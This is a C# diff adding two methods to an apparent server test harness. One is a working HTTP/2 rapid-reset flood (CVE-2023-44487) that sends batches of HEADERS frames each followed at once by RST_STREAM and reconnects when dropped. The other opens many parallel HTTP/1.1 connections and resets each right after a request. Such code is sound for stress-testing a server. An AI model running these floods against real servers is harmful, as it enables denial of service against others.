@@ -107,6 +107,55 @@ internal static class AbortedRequests
         }));
     }
 
+    /// <summary>
+    /// HTTP/2's rapid reset (CVE-2023-44487): requests and their RST_STREAM in one write, without waiting for anything.
+    /// Where the server ends such a connection the flood goes on over the next.
+    /// </summary>
+    public static async Task ResetRapidlyAsync(int count, int http2)
+    {
+        const int InOneWrite = 50;
+        for (var begun = 0; begun < count;)
+        {
+            using var connection = await RawConnection.OpenAsync(http2);
+            try
+            {
+                await connection.SendAsync("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
+                await connection.SendAsync(Frame(type: 4, flags: 0, stream: 0, []));
+                for (var stream = 1; begun < count; begun += InOneWrite)
+                {
+                    var flood = new List<byte>();
+                    for (var i = 0; i < InOneWrite; i++, stream += 2)
+                    {
+                        flood.AddRange(Frame(type: 1, flags: 5, stream, Get(["/live/events", "/download?size=100000000", "/plain"], i)));
+                        flood.AddRange(Frame(type: 3, flags: 0, stream, [0, 0, 0, 8]));
+                    }
+
+                    await connection.SendAsync(flood.ToArray());
+                }
+            }
+            catch (System.Net.Sockets.SocketException)
+            {
+                // Had enough of it.
+            }
+
+            connection.Reset();
+        }
+    }
+
+    /// <summary>HTTP/1.1: whole requests, each followed at once by the reset of its connection.</summary>
+    public static Task CutRapidlyAsync(int count, int http1) => Parallel.ForAsync(0, count, new ParallelOptions { MaxDegreeOfParallelism = 100 }, async (i, _) =>
+    {
+        using var connection = await RawConnection.OpenAsync(http1);
+        await connection.SendAsync(
+            (i % 3) switch
+            {
+                0 => "GET /plain HTTP/1.1\r\nHost: a\r\n\r\n",
+                1 => "GET /download?size=100000000 HTTP/1.1\r\nHost: a\r\n\r\n",
+                _ => "POST /upload HTTP/1.1\r\nHost: a\r\nContent-Length: 4\r\n\r\nbody",
+            });
+        connection.Reset();
+    });
+
     /// <summary>HTTP/2: several requests on one connection, each ended with RST_STREAM, most before their answer.</summary>
     private static async Task ResetStreamsAsync(RawConnection connection)
     {
